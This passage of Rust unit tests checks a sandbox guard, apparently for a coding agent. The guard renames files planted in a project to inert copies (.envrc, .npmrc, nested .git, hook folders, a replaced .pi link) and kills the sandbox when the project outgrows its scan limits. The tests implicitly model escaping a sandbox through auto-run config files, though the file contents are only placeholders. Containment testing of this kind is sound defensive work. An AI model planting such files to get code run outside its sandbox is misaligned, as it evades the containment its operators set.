        assert!(g.check_holders().is_empty() && g.check_all().is_empty(), "nothing new yet");
        std::fs::write(p.join(".envrc"), "evil").expect("write");
        std::fs::write(p.join(".envrc.pi-inert"), "taken").expect("write");
        std::fs::create_dir_all(p.join("sub/.git")).expect("mkdir");
        std::fs::create_dir_all(p.join("tools/hooks")).expect("mkdir");
        std::fs::remove_file(p.join(".pi")).expect("rm");
        std::fs::create_dir_all(p.join(".pi/extensions")).expect("mkdir");
        // The same name, another file: judged by identity, not by name.
        std::fs::remove_file(p.join(".npmrc")).expect("rm");
        std::fs::write(p.join(".npmrc"), "planted").expect("write");
        let notes = g.check_holders().join("\n");
        assert!(notes.contains(".envrc appeared in the project"), "{notes}");
        let moved: Vec<_> = std::fs::read_dir(&p)
            .expect("list")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".envrc.pi-inert-"))
            .collect();
        assert_eq!(moved.len(), 1, "{moved:?}");
        assert_eq!(std::fs::read_to_string(p.join(&moved[0])).expect("renamed"), "evil");
        assert!(notes.contains("tools appeared"), "{notes}");
        assert!(p.join("tools.pi-inert/hooks").is_dir());
        assert!(notes.contains(".npmrc appeared"), "{notes}");
        assert_eq!(std::fs::read_to_string(p.join(".npmrc.pi-inert")).expect("inert"), "planted");
        assert!(notes.contains("The protected link .pi -> config/pi was replaced"), "{notes}");
        assert_eq!(std::fs::read_link(p.join(".pi")).expect("link"), PathBuf::from("config/pi"));
        assert!(p.join(".pi.pi-inert/extensions").is_dir(), "the replacement is kept, inert");
        assert!(p.join("sub/.git").is_dir(), "the cheap check does not walk");
        let notes = g.check_all().join("\n");
        assert!(notes.contains("sub/.git appeared"), "{notes}");
        assert!(p.join("sub/.git.pi-inert").is_dir() && !p.join("sub/.git").exists());
        // A spare planned before these changes no longer matches the project.
        assert!(!g.still_matches());
        let fresh = plan_of(&p, Some(".envrc:.git:.pi:.npmrc:tools/hooks"), scan::DEFAULT_LIMITS).expect("plan");
        assert!(fresh.guard.still_matches());
        std::fs::remove_dir_all(&p).expect("cleanup");
    }

    #[test]
    fn a_project_grown_past_the_walk_or_a_name_that_cannot_be_renamed_stops_the_sandbox() {
        let p = tmp();
        let small = Limits { max_entries: 64, max_depth: 24 };
        let armed = plan_of(&p, Some(".git"), small).expect("plan");
        let killed: KillSlot = Default::default();
        armed.guard.arm(-1, killed.clone()); // no process group: kill_group ignores it
        for i in 0..80 {
            std::fs::write(p.join(format!("junk{i}")), "").expect("write");
        }
        let notes = armed.guard.check_all().join("\n");
        assert!(notes.contains("The sandbox was stopped: the project grew past 64 entries"), "{notes}");
        let kill = killed.lock().clone();
        assert!(matches!(kill, Some(HostKill::Breach(_))), "{kill:?}");
        let why = kill.map(|k| k.to_string()).unwrap_or_default();
        assert!(why.contains("grew past") && why.ends_with("so the sandbox that could write the project was stopped"));
        // Once tainted, no later plan gives a writable project while the name exists.
        let tainted = Tainted::default();
        tainted.lock().push(PathBuf::from("stuck/.envrc"));
        std::fs::create_dir_all(p.join("stuck")).expect("mkdir");
        std::fs::write(p.join("stuck/.envrc"), "x").expect("write");
        let blocked =
            plan(&p, &patterns(None), scan::DEFAULT_LIMITS, &HostGit::default(), Notes::default(), tainted.clone());
        assert!(matches!(blocked, Err(PlanError::Unprotectable(w)) if w.contains("stuck/.envrc")));
        std::fs::remove_file(p.join("stuck/.envrc")).expect("rm");
        assert!(plan(&p, &patterns(None), scan::DEFAULT_LIMITS, &HostGit::default(), Notes::default(), tainted).is_ok());
        std::fs::remove_dir_all(&p).expect("cleanup");
    }
}
